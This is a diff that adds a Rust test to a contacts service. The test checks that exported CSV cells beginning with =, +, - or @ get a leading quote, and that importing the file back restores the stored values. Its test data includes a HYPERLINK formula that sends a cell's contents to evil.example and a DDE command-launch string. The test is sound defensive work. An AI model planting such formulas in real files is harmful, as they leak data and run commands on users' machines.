@@ -227,3 +227,51 @@ async fn an_export_needs_a_manager_token_of_the_segment_s_workspace() {
     let (_, _, rows) = export(&app, &other, json!({})).await;
     assert!(rows.is_empty());
 }
+
+#[tokio::test]
+async fn cells_a_spreadsheet_would_run_are_neutralised_and_import_back_unchanged() {
+    let app = TestApp::spawn().await;
+    app.ok("mutation { createContactField(input: {key: \"note\", name: \"Note\", type: TEXT}) { id } }", json!({}))
+        .await;
+    // OWASP "CSV Injection": cells starting with =, +, -, @ are formulas to a spreadsheet.
+    let payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    app.contact(json!({ "firstName": payload, "lastName": "-2+3", "phone": "+593991234567", "email": "x@x.io",
+        "customFields": { "note": "@SUM(1+1)*cmd|' /C calc'!A0" } }))
+        .await;
+    let (status, header, rows) = export(&app, &app.token, json!({})).await;
+    assert_eq!(status, 200);
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("no {name}: {header:?}"));
+    assert_eq!(rows[0][column("First name")], format!("'{payload}"));
+    assert_eq!(rows[0][column("Last name")], "'-2+3");
+    assert_eq!(rows[0][column("note")], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(rows[0][column("Phone")], "+593991234567", "a plain number is left as it is");
+
+    // The export imports back with the values as they were stored.
+    let url =
+        app.ok("{ exportContacts { url } }", json!({})).await["exportContacts"]["url"].as_str().unwrap().to_owned();
+    let csv = app.client.get(format!("{}{url}", app.address)).bearer_auth(&app.token).send().await.unwrap();
+    let csv = csv.text().await.unwrap();
+    let (_, other) = app.other_workspace().await;
+    app.gql_as(
+        Some(&other),
+        "mutation { createContactField(input: {key: \"note\", name: \"Note\", type: TEXT}) { id } }",
+        json!({}),
+    )
+    .await;
+    let body = app
+        .gql_as(
+            Some(&other),
+            "mutation($csv: String) { importContacts(csv: $csv, mode: ADD_ONLY, identifier: EMAIL) { created rejected } }",
+            json!({ "csv": csv }),
+        )
+        .await;
+    assert_eq!(body["data"]["importContacts"], json!({ "created": 1, "rejected": 0 }), "{body:#}");
+    let body = app
+        .gql_as(Some(&other), "{ contacts(first: 1) { nodes { firstName lastName phone customFields } } }", json!({}))
+        .await;
+    assert_eq!(
+        body["data"]["contacts"]["nodes"][0],
+        json!({ "firstName": payload, "lastName": "-2+3", "phone": "+593991234567",
+                "customFields": { "note": "@SUM(1+1)*cmd|' /C calc'!A0" } })
+    );
+}
